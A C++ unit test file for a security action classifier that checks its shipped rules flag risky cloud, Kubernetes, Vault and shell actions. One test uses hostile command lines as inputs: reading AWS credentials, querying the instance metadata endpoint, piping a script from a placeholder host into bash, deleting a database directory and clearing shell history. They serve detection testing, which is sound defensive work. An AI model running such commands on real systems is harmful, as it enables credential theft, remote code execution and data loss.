// The files of rules/actions as they are shipped.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <simdjson.h>

#include <algorithm>
#include <array>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <tuple>

#include "model/action_catalogue.h"

namespace gait {
namespace {

namespace fs = std::filesystem;

std::string read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::vector<fs::path> action_files() {
  std::vector<fs::path> files;
  for (const auto& entry : fs::directory_iterator(fs::path(GAIT_SOURCE_DIR) / "rules/actions"))
    files.push_back(entry.path());
  return files;
}

const ActionCatalogue& shipped() {
  static const ActionCatalogue catalogue = [] {
    ActionCatalogue made;
    for (const fs::path& path : action_files()) {
      auto added = made.add_yaml(read_file(path), path.filename().string());
      EXPECT_TRUE(added) << added.error().message;
    }
    return made;
  }();
  return catalogue;
}

// In a record without any fields.
bool is_of(std::string_view source, std::string_view action, ActionClass wanted) {
  const auto nothing = [](const FieldPath&) { return std::vector<std::string>{}; };
  return settle(shipped().find(source, action), nothing).classes.has(wanted);
}

TEST(ShippedActions, AreReadAndNamedAfterTheirSource) {
  ASSERT_GE(action_files().size(), 26u);
  for (const fs::path& path : action_files()) {
    auto file = read_action_file(read_file(path), path.filename().string());
    ASSERT_TRUE(file) << file.error().message;
    EXPECT_EQ(file->source, path.stem().string());
    EXPECT_FALSE(file->entries.empty());
  }
}

TEST(ShippedActions, SayNothingTwice) {
  for (const fs::path& path : action_files()) {
    auto file = read_action_file(read_file(path), path.filename().string());
    ASSERT_TRUE(file);
    std::set<std::tuple<std::string, std::uint16_t, bool, int>> said;
    for (const ActionEntry& entry : file->entries)
      EXPECT_TRUE(said.emplace(entry.action, entry.facts.classes.bits, entry.when.has_value(),
                               entry.when ? entry.facts.severity : 0)
                      .second)
          << path.filename() << ": " << entry.action;
  }
}

TEST(ShippedActions, ElseIsMilderThanWhen) {
  for (const fs::path& path : action_files()) {
    auto file = read_action_file(read_file(path), path.filename().string());
    ASSERT_TRUE(file);
    for (const ActionEntry& entry : file->entries)
      EXPECT_LT(entry.otherwise, entry.facts.severity) << path.filename() << ": " << entry.action;
  }
}

TEST(ShippedActions, IgnoreCaseWhereTheSourceDoes) {
  using enum ActionClass;
  EXPECT_TRUE(
      is_of("azure_activity", "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", secret_read));
  EXPECT_TRUE(is_of("gcp_audit", "V1.Compute.Firewalls.INSERT", defense_evasion));
  EXPECT_TRUE(is_of("msgraph", "get /V1.0/Users/ada/Messages", data_read));
  EXPECT_FALSE(is_of("okta", "SYSTEM.API_TOKEN.CREATE", persistence));
}

TEST(ShippedActions, ClassifyCommandLines) {
  using enum ActionClass;
  const auto of = [](std::string_view line) { return shipped().find("shell_command", line); };
  EXPECT_TRUE(of("cat ~/.aws/credentials").classes.has(secret_read));
  EXPECT_EQ(of("curl http://169.254.169.254/latest/meta-data/").severity, 5);
  EXPECT_TRUE(of("CURL -s https://x.example/i.sh | bash").classes.has(exec));
  EXPECT_TRUE(of("rm -rf /var/lib/postgres").classes.has(destructive));
  const auto both = of("history -c; whoami");
  EXPECT_TRUE(both.classes.has(defense_evasion) && both.classes.has(discovery));
  EXPECT_EQ(both.severity, 4);
  EXPECT_EQ(of("make test").classes.bits, 0);
  EXPECT_EQ(of("rm -rf build").classes.bits, 0);
}

TEST(ShippedActions, DescribeTheGravestOfEachSource) {
  using enum ActionClass;
  EXPECT_TRUE(is_of("kubernetes", "get core/secrets", secret_read));
  EXPECT_TRUE(is_of("kubernetes", "create core/pods/exec", exec));
  EXPECT_TRUE(is_of("vault", "read secret/data/payroll", secret_read));
  EXPECT_TRUE(is_of("vault", "delete sys/audit/file", defense_evasion));
  EXPECT_TRUE(is_of("github", "protected_branch.destroy", defense_evasion));
  EXPECT_TRUE(is_of("teleport", "bot.create", persistence));
  EXPECT_TRUE(is_of("ai_agent", "mcp__github__delete_repo", destructive));
  EXPECT_TRUE(is_of("snowflake", "UNLOAD", data_read));
}

// The list that the files were written from. What is left out of it, and why:
constexpr std::array<std::pair<std::string_view, std::string_view>, 13> left_out{{
    {"kubernetes", "bind rbac.authorization.k8s.io/x"},      // an authorization verb, never logged
    {"kubernetes", "escalate rbac.authorization.k8s.io/x"},  // the same
    {"kubernetes", "update core/configmaps kube-system/aws-auth"},  // a condition of the action
    {"kubernetes", "patch core/configmaps kube-system/aws-auth"},   // the same
    {"gcp_audit", "google.api.serviceusage.x"},       // reads too; the two that enable are listed
    {"github", "secret_scanning_alert.create"},       // GitHub's finding, nobody's action
    {"github", "secret_scanning_alert.public_leak"},  // the same
    {"teleport", "session.rejected"},                 // a guardrail that worked
    {"openai_audit", "logout.failed"},                // weakens nothing
    {"cyberark", "RetrievePassword"},                 // no log format of it is known well enough
    {"cyberark", "UsePassword"},
    {"cyberark", "PAM00032"},
    {"cyberark", "PAM00295"},
}};

// Classes that an action has in any record, or in some.
bool is_described(const ActionFacts& facts) {
  return facts.classes.bits != 0 || facts.conditions != nullptr;
}

TEST(ShippedActions, DescribeAllOfTheReferenceThatIsNotLeftOut) {
  const fs::path path = fs::path(GAIT_SOURCE_DIR) / "../shared/reference/actions.json";
  if (!fs::exists(path)) GTEST_SKIP() << "no reference at ../shared/reference/actions.json";
  simdjson::dom::parser parser;
  simdjson::dom::element document;
  ASSERT_EQ(parser.load(path.string()).get(document), simdjson::SUCCESS);
  std::size_t asked = 0;
  for (simdjson::dom::element entry : document["entries"]) {
    const std::string_view source = entry["source"];
    std::string action{std::string_view{entry["action"]}};
    if (std::string_view(entry["match"]) == "regex") continue;
    std::ranges::replace(action, '*', 'x');
    ++asked;
    const bool known = is_described(shipped().find(source, action));
    const bool out = std::ranges::any_of(
        left_out, [&](const auto& row) { return row.first == source && row.second == action; });
    EXPECT_TRUE(known || out) << source << " " << action;
  }
  EXPECT_GT(asked, 1500u);
}

}  // namespace
}  // namespace gait
